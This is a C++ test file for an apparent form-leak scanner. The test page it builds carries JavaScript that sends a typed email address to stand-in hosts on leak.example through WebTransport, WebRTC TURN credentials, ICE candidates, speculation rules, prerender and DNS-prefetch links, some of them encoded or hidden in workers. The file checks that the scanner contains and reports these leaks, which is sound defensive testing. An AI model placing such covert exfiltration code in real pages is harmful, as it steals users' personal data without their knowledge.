// What a page tries after the first value by ways that no request takes: contained as before, and named in
// the report, as an observed leak where the typed value is to be seen in it.
#include <doctest/doctest.h>

#include "scanner/browser/chromium_browser.h"
#include "scanner/engine/scan.h"
#include "tests/support/made_pages.h"

using namespace formleak;
using namespace formleak::test;

namespace {

browser::ChromiumBrowser& chromium() {
    static const auto started = [] {
        auto browser = browser::ChromiumBrowser::start({});
        if (!browser) FAIL(browser.error());
        return std::move(browser).value();
    }();
    return *started;
}

struct Way {
    const char *name, *code;  // of a function of the value `v` and of `x`, a coding that nobody knows
    const char* type;         // as the report says
    bool is_recognised;
};

constexpr Way kWays[] = {
    {"wt", "new WebTransport('https://wt.leak.example:4433/x?email=' + v).ready.catch(() => 0)",
     "webtransport", true},
    {"wtcoded", "new WebTransport('https://wtcoded.leak.example:4433/' + x).ready.catch(() => 0)",
     "webtransport", false},
    {"wtworker",
     "work('new WebTransport(\"https://wtworker.leak.example/?m=' + v + '\").ready.catch(() => 0)')",
     "webtransport", true},
    {"wtnested",
     "work('new Worker(URL.createObjectURL(new Blob([\"new "
     "WebTransport(\\'https://wtnested.leak.example/?m=' + "
     "v + '\\').ready.catch(() => 0)\"])))')",
     "webtransport", true},
    {"turn", "call({urls: 'turn:turn.leak.example:3478?transport=tcp', username: v, credential: 'x'})",
     "webrtc", true},
    {"turnpass", "call({urls: ['turns:turnpass.leak.example'], username: 'x', credential: v})", "webrtc",
     true},
    {"stun", "call({urls: ['stun:stun.leak.example:3478']})", "webrtc", false},
    {"webkit",
     "new webkitRTCPeerConnection({iceServers: [{urls: 'turn:webkit.leak.example', username: v, credential: "
     "'x'}]})",
     "webrtc", true},
    {"constructed",
     "new (new RTCPeerConnection().constructor)({iceServers: [{urls: 'turn:constructed.leak.example', "
     "username: v, credential: 'x'}]})",
     "webrtc", true},
    {"set",
     "new RTCPeerConnection().setConfiguration({iceServers: [{urls: 'turn:set.leak.example', username: v, "
     "credential: 'x'}]})",
     "webrtc", true},
    {"subclass",
     "new (class extends RTCPeerConnection {})({iceServers: [{urls: 'turn:subclass.leak.example', username: "
     "v, credential: 'x'}]})",
     "webrtc", true},
    {"emptyframe",
     "new (add('iframe', {}).contentWindow.RTCPeerConnection)({iceServers: [{urls: "
     "'turn:emptyframe.leak.example', username: v, credential: 'x'}]})",
     "webrtc", true},
    {"candidate",
     "new RTCPeerConnection().addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 "
     "candidate.leak.example 5000 typ host', sdpMid: '0', usernameFragment: v}).catch(() => 0)",
     "webrtc", true},
    {"speculate",
     "speculate({prefetch: [{source: 'list', urls: ['https://speculate.leak.example/?m=' + v]}]})",
     "speculation", true},
    {"spec2", "speculate({prerender: [{source: 'list', urls: ['https://spec2.leak.example/' + x]}]})",
     "speculation", false},
    {"specdoc",
     "speculate({prefetch: [{source: 'document', eagerness: 'immediate'}]}); add('a', {href: "
     "'https://specdoc.leak.example/?m=' + v, textContent: 'x'})",
     "speculation", true},
    {"prerender", "add('link', {rel: 'prerender', href: 'https://prerender.leak.example/?m=' + v})",
     "prerender", true},
    {"preconnect",
     "add('link', {rel: 'preconnect', href: 'https://' + x.slice(0, 40) + '.preconnect.leak.example'})",
     "preconnect", false},
    {"dns", "add('link', {rel: 'dns-prefetch', href: 'https://' + x.slice(0, 40) + '.dns.leak.example'})",
     "dns-prefetch", false},
};

std::string page() {
    std::string out = R"(<!doctype html><title>Kontakt</title><form action="/tack" method="post">
<label>E-post <input type="email" name="epost"></label><button type="button">Vidare</button></form><script>
const add = (tag, what) => { const e = Object.assign(document.createElement(tag), what); document.body.append(e); return e; };
const work = code => new Worker(URL.createObjectURL(new Blob([code])));
const call = server => { const p = new RTCPeerConnection({iceServers: [server]}); p.createDataChannel('a');
  p.createOffer().then(o => p.setLocalDescription(o)); };
const speculate = rules => add('script', {type: 'speculationrules', textContent: JSON.stringify(rules)});
document.querySelector('button').onclick = () => {
  const v = document.querySelector('input').value; if (!v) return;
  const x = [...v].map(c => (c.charCodeAt(0) ^ 0x5a).toString(16)).join('');
)";
    for (const Way& way : kWays) out += "try { " + std::string(way.code) + "; } catch (e) {}\n";
    return out + "};</script>";
}

ScanReport verify(MadePages& network) {
    ScanRequest request;
    request.command = "verify";
    request.targets = {"https://www.shop.example/"};
    request.only_targets = true;
    request.browser = BrowserRequest{};
    ScanHooks hooks;
    hooks.now = [] { return std::string("2026-11-22T01:10:00Z"); };
    hooks.network = &network;
    hooks.browser = &chromium();
    ScanControl control;
    auto report = scan(request, hooks, control);
    REQUIRE_MESSAGE(report.ok(), (report ? "" : report.error()));
    return std::move(report).value();
}

}  // namespace

TEST_CASE("attempts: WebTransport, WebRTC and speculation are named, and found where the value is in them") {
    MadePages network("", "shop.example");
    network.add("https://www.shop.example/", page());
    const ScanReport report = verify(network);
    for (const HttpRequest& request : network.requests())
        CHECK(request.url.find("leak.example") == std::string::npos);
    for (const Way& way : kWays) {
        CAPTURE(std::string(way.name));
        const std::string host = way.name + std::string(".leak.example");
        bool is_leak = false, is_listed = false;
        for (const Leak& leak : report.leaks)
            is_leak |= leak.basis == Basis::observed &&
                       leak.destination.find("/" + host) != std::string::npos &&
                       leak.recipient == "leak.example" && leak.data_kind == DataKind::email;
        for (const WorthALook& line : report.worth_a_look)
            is_listed |=
                line.what.find(host) != std::string::npos && line.what.find(way.type) != std::string::npos;
        CHECK(is_leak == way.is_recognised);
        CHECK((is_leak || is_listed));
    }
}

TEST_CASE("attempts: what was there before anything was typed is no matter of what was typed") {
    MadePages network("", "shop.example");
    network.add("https://www.shop.example/",
                "<!doctype html><title>Kontakt</title><link rel=preconnect href=https://cdn.leak.example>"
                "<form><label>E-post <input type=email name=epost></label></form><script>"
                "new RTCPeerConnection({iceServers: [{urls: 'stun:early.leak.example'}]});</script>");
    for (const WorthALook& line : verify(network).worth_a_look) {
        CAPTURE(line.what);
        CHECK(line.what.find("leak.example") == std::string::npos);
    }
}
